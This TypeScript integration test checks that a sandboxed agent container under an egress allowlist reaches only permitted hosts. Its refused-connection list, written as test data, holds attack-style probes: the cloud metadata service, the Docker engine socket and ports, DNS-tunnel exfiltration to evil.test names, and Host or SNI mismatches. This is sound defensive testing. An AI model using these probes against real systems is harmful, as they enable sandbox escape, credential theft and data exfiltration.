import { once } from 'node:events';
import { networkInterfaces } from 'node:os';
import { expect, test } from 'vitest';
import { describeDocker } from '../support/docker.ts';
import { freePort } from '../support/free-port.ts';
import { createRig, type Rig } from '../support/rig.ts';
import {
  connectTo,
  curlOf,
  fetchOf,
  httpTo,
  nameOf,
  pythonOf,
  queryFor,
  socketAt,
  tcpTo,
  tlsOf,
  udpTo,
} from './edge-clients.ts';
import { openOutside } from './edge-outside.ts';
import { docker } from './engine-view.ts';
import { agentText } from './manifests.ts';
import { containersOf } from './rolling.ts';

/** What no answer from beyond what is allowed looks like. */
const reached = /secure|plain|CONNECTED|ANSWERED|sibling|^200|^\d+\.\d+\.\d+/;

describeDocker('an agent with a restricted way out', () => {
  test('reaches what is allowed, by any client, and nothing else in any way', async ({ annotate }) => {
    await using outside = await openOutside();
    const { host, tls, http, dns } = outside;
    await using rig = createRig({
      docker: true,
      project: { edge: { image: 'aac-test/node:20', dns: [`${host}:${String(dns)}`] } },
    });
    const published = await freePort();
    const sleep = ['node', '-e', 'setInterval(() => {}, 1000)'];
    const node = { image: 'aac-test/node:20', imagePullPolicy: 'Never', command: sleep, stop: { gracePeriod: '0s' } };
    const security = {
      allowExternalConnections: false,
      allowedHosts: [
        { host: 'api.test', port: tls, private: true },
        { host: 'api.test', port: http, private: true },
        { host: 'inside.test', port: tls },
        { host: '*.wild.test', port: tls, private: true },
      ],
    };
    const environment = [{ name: 'AUTHORITY', value: outside.certificate }];
    const hasClients = await docker()
      .getImage('aac-test/clients:1')
      .inspect()
      .then(
        () => true,
        () => false,
      );
    if (!hasClients) {
      expect(process.env.AAC_REQUIRE_DOCKER).not.toBe('1');
      await annotate('curl and urllib are not tried: there is no image of them, as this machine lacks curl or python3');
    }
    rig.write({
      'agent.agent.yaml': agentText('agent', { ...node, environment, network: { security } }),
      'shut.agent.yaml': agentText('shut', { ...node, network: { security: { allowExternalConnections: false } } }),
      'free.agent.yaml': agentText('free', {
        ...node,
        command: ['node', '-e', "require('net').createServer((s) => s.end('sibling')).listen(9000)"],
        ports: [{ container: 9000, host: published }],
      }),
      ...(hasClients
        ? {
            'tools.agent.yaml': agentText('tools', {
              ...node,
              image: 'aac-test/clients:1',
              command: ['sleep', '86400'],
              environment,
              network: { security },
            }),
          }
        : {}),
    });
    const plan = await rig.aac('plan');
    expect(plan.all).toContain('edge/edge');
    await rig.apply();
    const again = await rig.aac('plan', '--detailed-exitcode');
    expect(again.exitCode, again.all).toBe(0);
    const stranger = await strangerOf(rig);

    const api = `https://api.test:${String(tls)}/`;
    const allowed: readonly (readonly [string, string, string])[] = [
      ['TLS that knows no proxy', tlsOf('api.test', tls), 'secure'],
      ['fetch', fetchOf(api), 'secure'],
      ['CONNECT', connectTo(`api.test:${String(tls)}`, 'api.test'), 'secure'],
      ['CONNECT by a wildcard', connectTo(`a.wild.test:${String(tls)}`, 'a.wild.test'), 'secure'],
      ['plain HTTP that knows no proxy', httpTo(`host:'api.test',port:${String(http)}`), '200 plain'],
      [
        'plain HTTP through the proxy',
        httpTo(
          `host:'egress',port:3128,path:'http://api.test:${String(http)}/',headers:{host:'api.test:${String(http)}'}`,
        ),
        '200 plain',
      ],
    ];
    const answers = await runAll(
      rig,
      'agent',
      allowed.map(([, script]) => script),
    );
    expect(allowed.map(([what], index) => [what, answers[index]])).toEqual(
      allowed.map(([what, , answer]) => [what, answer]),
    );
    const clients: readonly (readonly [string, readonly string[], RegExp])[] = [
      ['curl', curlOf(api, true), /^secure$/],
      ['curl that knows no proxy', curlOf(api, false), /^secure$/],
      ['curl, plain HTTP', curlOf(`http://api.test:${String(http)}/`, true), /^plain$/],
      ['urllib', pythonOf(api, true), /^secure$/],
      ['urllib that knows no proxy', pythonOf(api, false), /^secure$/],
      ['curl elsewhere', curlOf(`https://other.test:${String(tls)}/`, true), /failed: \d+$/],
      ['curl elsewhere that knows no proxy', curlOf(`https://other.test:${String(tls)}/`, false), /failed: \d+$/],
      ['urllib elsewhere', pythonOf(`https://other.test:${String(tls)}/`, true), /Error$/],
      ['urllib elsewhere that knows no proxy', pythonOf(`https://other.test:${String(tls)}/`, false), /Error$/],
    ];
    await Promise.all(
      (hasClients ? clients : []).map(async ([what, command, answer]) => {
        expect([what, await exec(rig, 'tools', command)]).toEqual([what, expect.stringMatching(answer)]);
      }),
    );

    const [edge, free, own] = (await Promise.all(
      ['edge/edge', 'agent/free/0', 'agent/agent/0'].map((address) => addressesOf(rig, address)),
    )) as [Addresses, Addresses, Addresses];
    const elsewhere = [...edge].flatMap(([network, address]) => (own.has(network) ? [] : [address]));
    expect(elsewhere.length).toBeGreaterThan(0);
    const gateways = [...edge.keys()].map((network) => gatewayOf(network));
    const machine = new Set([host, ...machineAddresses(), ...(await Promise.all(gateways)).flat()]);
    const refused: readonly (readonly [string, string])[] = [
      ['TCP to the machine', tcpTo(host, tls)],
      ['TCP to the outside', tcpTo('1.1.1.1', 443)],
      ['TCP over IPv6', tcpTo('2606:4700:4700::1111', 443)],
      ['UDP to the machine', udpTo(host, dns)],
      ['UDP to the outside', udpTo('1.1.1.1', 53)],
      ['the metadata service', tcpTo('169.254.169.254', 80)],
      ...[...machine].map((address) => ['a published port of another agent', tcpTo(address, published)] as const),
      ['another project', tcpTo(stranger, 9000)],
      ...['/var/run/docker.sock', '/run/docker.sock'].map((path) => ['the engine', socketAt(path)] as const),
      ...[2375, 2376].map((port) => ['the engine by TCP', tcpTo(host, port)] as const),
      ...[...free.values()].map((address) => ['a sibling that was not declared', tcpTo(address, 9000)] as const),
      ...elsewhere.map((address) => ['the edge where others reach it', tcpTo(address, 3128)] as const),
      ['a sibling by name through the proxy', connectTo('free:9000', 'free')],
      ['a host that is not in the list', connectTo(`other.test:${String(tls)}`, 'other.test')],
      ['CONNECT to an address', connectTo(`${host}:${String(tls)}`, 'api.test')],
      ['another name in the handshake', connectTo(`api.test:${String(tls)}`, 'other.test')],
      ['an allowed name that leads to a private address', connectTo(`inside.test:${String(tls)}`, 'inside.test')],
      ['the same without a proxy', tlsOf('inside.test', tls)],
      [
        'a Host that differs',
        httpTo(`host:'egress',port:3128,path:'http://api.test:${String(http)}/',headers:{host:'other.test'}`),
      ],
      [
        'plain HTTP to a host that is not in the list',
        httpTo(`host:'api.test',port:${String(http)},headers:{host:'other.test:${String(http)}'}`),
      ],
      ['a name of the outside', nameOf('other.test')],
      ['a tunnel of names', nameOf('secret.data.evil.test')],
      ['a tunnel of names by the engine', queryFor('engine.data.evil.test')],
      ['a tunnel of names by the edge', connectTo(`edge.data.evil.test:${String(tls)}`, 'edge.data.evil.test')],
      ...elsewhere.map((address) => ['the edge as a name server', udpTo(address, 53)] as const),
    ];
    const refusals = await runAll(
      rig,
      'agent',
      refused.map(([, script]) => script),
    );
    expect(refusals.length).toBe(refused.length);
    expect(
      refused.flatMap(([what], index) =>
        reached.test(refusals[index] ?? '') ? [`${what}: ${refusals[index] ?? ''}`] : [],
      ),
    ).toEqual([]);
    const shut = [tcpTo(host, tls), tcpTo('1.1.1.1', 443), nameOf('api.test'), tcpTo('egress', 3128)];
    expect((await runAll(rig, 'shut', shut)).filter((answer) => reached.test(answer))).toEqual([]);
    // the rig could tell
    expect(await runAll(rig, 'free', [tcpTo(host, tls), tcpTo(host, published)])).toEqual(['CONNECTED', 'CONNECTED']);

    // names were asked for by the edge alone, and those that are allowed alone
    expect([...outside.asked].sort()).toEqual(['a.wild.test', 'api.test', 'inside.test']);
    expect([...outside.leaked]).toEqual([]);
    // what the engine does not know it asks of the agent's own loopback, where nobody is unless the agent itself
    const itself = `require('dgram').createSocket('udp4').on('message',m=>say(/data.*evil/s.test(m)?'ITSELF':m)).bind(53,'127.0.0.1',()=>{${queryFor('own.data.evil.test')}})`;
    expect(await runAll(rig, 'agent', [itself])).toEqual([expect.stringMatching(/^(ITSELF|E\w+|NOTHING)$/)]);
    expect(outside.leaked.size).toBe(0);

    const log = await rig.aac('logs', 'edge');
    const lines = log.all
      .split('\n')
      .flatMap((line) => (line.includes('"verdict"') ? [line.slice(line.indexOf('{'))] : []));
    const verdicts = lines.map((line) => JSON.parse(line) as { agent: string; verdict: string });
    expect(new Set(verdicts.map(({ agent, verdict }) => `${agent} ${verdict}`))).toEqual(
      new Set(['agent', ...(hasClients ? ['tools'] : [])].flatMap((agent) => [`${agent} allowed`, `${agent} denied`])),
    );
  });
});

/** What scripts say inside an agent, all at once, each by calling `say`. */
async function runAll(rig: Rig, agent: string, scripts: readonly string[]): Promise<readonly string[]> {
  const whole = `
    const run = (script) => new Promise((say) => {
      setTimeout(() => say('NOTHING'), 6000);
      new Function('say', 'require', script)(say, require);
    });
    Promise.all(JSON.parse(process.env.SCRIPTS).map(run)).then((said) => {
      process.stdout.write(JSON.stringify(said.map(String)), () => process.exit(0));
    });`;
  const trusting = 'printf "%s\\n" "$AUTHORITY" >/tmp/a.pem; NODE_EXTRA_CA_CERTS=/tmp/a.pem exec node -e "$0"';
  const text = await exec(rig, agent, ['sh', '-c', trusting, whole], [`SCRIPTS=${JSON.stringify(scripts)}`]);
  return JSON.parse(text) as readonly string[];
}

/** What a command prints inside an agent. */
async function exec(rig: Rig, agent: string, command: readonly string[], environment: readonly string[] = []) {
  const [container] = await containersOf(rig, agent);
  const made = await docker()
    .getContainer(container?.Id ?? '')
    .exec({ Cmd: [...command], Env: [...environment], AttachStdout: true, AttachStderr: true, Tty: true });
  const stream = await made.start({ Tty: true });
  let text = '';
  stream.on('data', (data: Buffer) => (text += data.toString()));
  await once(stream, 'end');
  return text.trim();
}

/** The address of a server on a network that is no business of the project. */
async function strangerOf(rig: Rig): Promise<string> {
  const name = `${rig.workspace}-other`;
  const network = await docker().createNetwork({ Name: name });
  const container = await docker().createContainer({
    name,
    Image: 'aac-test/node:20',
    Cmd: ['node', '-e', "require('net').createServer((s) => s.end('sibling')).listen(9000)"],
    HostConfig: { NetworkMode: network.id, Init: true },
  });
  await container.start();
  const { NetworkSettings } = await container.inspect();
  return NetworkSettings.Networks[name]?.IPAddress ?? '';
}

/** The addresses of this machine that others could reach. */
function machineAddresses(): readonly string[] {
  return Object.values(networkInterfaces()).flatMap((entries) =>
    (entries ?? []).flatMap(({ address, family, internal }) => (family === 'IPv4' && !internal ? [address] : [])),
  );
}

async function gatewayOf(network: string): Promise<readonly string[]> {
  const { IPAM } = (await docker().getNetwork(network).inspect()) as { IPAM: { Config: { Gateway?: string }[] } };
  return IPAM.Config.flatMap(({ Gateway }) => Gateway ?? []);
}

/** Network → address there. */
type Addresses = ReadonlyMap<string, string>;

async function addressesOf(rig: Rig, address: string): Promise<Addresses> {
  const all = await docker().listContainers({ filters: { label: [`dev.aac.workspace=${rig.workspace}`] } });
  const found = all.find(({ Labels }) => Labels['dev.aac.address'] === address);
  const networks = Object.entries(found?.NetworkSettings.Networks ?? {});
  return new Map(networks.map(([network, { IPAddress }]) => [network, IPAddress]));
}
